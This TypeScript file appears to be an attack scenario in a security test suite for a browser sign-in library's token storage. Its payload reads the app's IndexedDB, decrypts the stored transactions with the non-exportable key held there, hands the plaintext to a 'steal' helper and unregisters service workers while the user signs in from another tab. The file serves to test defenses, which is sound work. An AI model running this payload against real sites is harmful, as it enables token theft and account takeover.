import { attack } from "../attack.js";

export default attack({
  name: "the verifier out of IndexedDB, the worker unregistered while the user signs in",
  threat: "acquisition of new tokens",
  target: "strongroom",
  leavesWorkers: true,
  hook(it) {
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    it.steal(
      location.href,
      document.referrer,
      (navigation?.entries() ?? []).map(({ url }) => url),
    );
  },
  // The key cannot be exported; it can be used where it lies.
  async payload(it) {
    const done = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const database = await done(indexedDB.open("strongroom"));
    const all = (store: string) => database.transaction(store).objectStore(store);
    const key = (await done(all("values").get("sealing"))) as CryptoKey;
    const names = await done(all("transactions").getAllKeys());
    const rows = (await done(all("transactions").getAll())) as { iv: BufferSource; data: BufferSource }[];
    database.close();
    for (const [index, { iv, data }] of rows.entries()) {
      const additionalData = new TextEncoder().encode(String(names[index]));
      const opened = await crypto.subtle.decrypt({ name: "AES-GCM", iv, additionalData }, key, data);
      it.steal(new TextDecoder().decode(opened));
    }
    for (const registration of await navigator.serviceWorker.getRegistrations())
      await registration.unregister();
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.signOut();
    const tab = await stage.browser.currentTab();
    await stage.beginSignIn();
    // In another tab, while the user types.
    await stage.browser.newTab(`${stage.site.origin}/`);
    await stage.inject();
    await stage.closeThisTab(tab);
    await stage.finishSignIn();
    await stage.openUnconnected();
  },
});
